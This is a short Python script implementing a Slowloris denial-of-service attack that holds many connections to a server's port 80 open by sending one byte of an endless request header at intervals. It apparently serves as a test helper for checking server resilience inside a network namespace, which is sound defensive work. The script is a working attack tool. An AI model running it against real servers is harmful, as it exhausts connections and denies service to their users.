#!/usr/bin/env python3
"""Slowloris with kernel sockets (inside the test's namespace).

    slowloris.py SRC_IP DST_IP CONNS EVERY SECS

Opens CONNS connections from SRC_IP to DST_IP:80 (non-blocking: a SYN the server
refuses stays pending in the kernel, which retries it) and, every EVERY seconds,
sends each connected socket one more byte of a request head that never ends, for
SECS seconds. Prints "connected N closed_by_peer M bytes B".
"""
import errno
import resource
import select
import socket
import sys
import time


def main():
    src, dst = sys.argv[1], sys.argv[2]
    conns, every, secs = int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, conns + 100)), hard))
    head = b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X-a: " + b"b" * 100000
    socks = []
    for _ in range(conns):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.bind((src, 0))
        try:
            s.connect((dst, 80))
        except BlockingIOError:
            pass
        socks.append([s, 0, False])  # socket, bytes sent, connected once
    end = time.time() + secs
    connected, closed, total = set(), set(), 0
    while time.time() < end:
        for i, c in enumerate(socks):
            s, n, _ = c
            if i in closed:
                continue
            try:
                sent = s.send(head[n : n + 1])
                c[1] += sent
                total += sent
                connected.add(i)
            except BlockingIOError:
                pass  # still connecting
            except OSError as e:
                if e.errno in (errno.EPIPE, errno.ECONNRESET, errno.ENOTCONN) and i in connected:
                    closed.add(i)
        # Read (and drop) what the server says (a 408, then its FIN).
        r, _, _ = select.select([c[0] for i, c in enumerate(socks) if i in connected and i not in closed][:1000], [], [], 0)
        for s in r:
            try:
                if not s.recv(4096):
                    closed.add(next(i for i, c in enumerate(socks) if c[0] is s))
            except OSError:
                pass
        time.sleep(every)
    print("connected %d closed_by_peer %d bytes %d" % (len(connected), len(closed), total))


if __name__ == "__main__":
    main()
